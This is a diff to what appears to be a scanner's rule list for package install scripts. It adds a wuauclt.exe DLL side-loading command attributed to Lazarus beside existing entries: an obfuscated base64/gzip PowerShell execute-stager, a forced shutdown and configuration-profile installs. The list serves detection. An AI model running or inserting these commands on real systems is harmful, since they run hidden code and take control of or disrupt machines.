@@ -115,6 +115,9 @@ def rules(art: Artifact) -> set[str]:
     ("powershell -c \"$g=[IO.Compression.GzipStream]::new([IO.MemoryStream]::new([Convert]::FromBase64String("
      "'H4sIAAAAAAACAwXBoQ6AIBAA0F8xsAFB6DqTZgwGM8hNzzFgcoKf73usTMJA61d3w0GdAVI7uDkgRJJqSS2GZP1GD8ZT8Isol0FrlxIpD7UAvVlhrDag143LEeHrWPkBN/ydo1YAAAA=')),0); . ([scriptblock]::Create([IO.StreamReader]::new($g).ReadToEnd()))\"",
      "install-script/fetch-and-execute"),
+    # blind set 49: a DLL the package ships, loaded by the Windows Update client (Lazarus's proxy execution, 2022)
+    ("%SystemRoot%\\System32\\wuauclt.exe /UpdateDeploymentProvider %TEMP%\\wininet-proxy.dll /RunHandlerComServer",
+     "install-script/update-client-dll"),
     ("osascript -e 'tell app \"System Events\" to shut down'", "install-script/system-shutdown"),
     ("profiles install -type configuration -path ./assets/defaults.mobileconfig", "install-script/config-profile"),
     ("open ./assets/search.mobileconfig", "install-script/config-profile"),
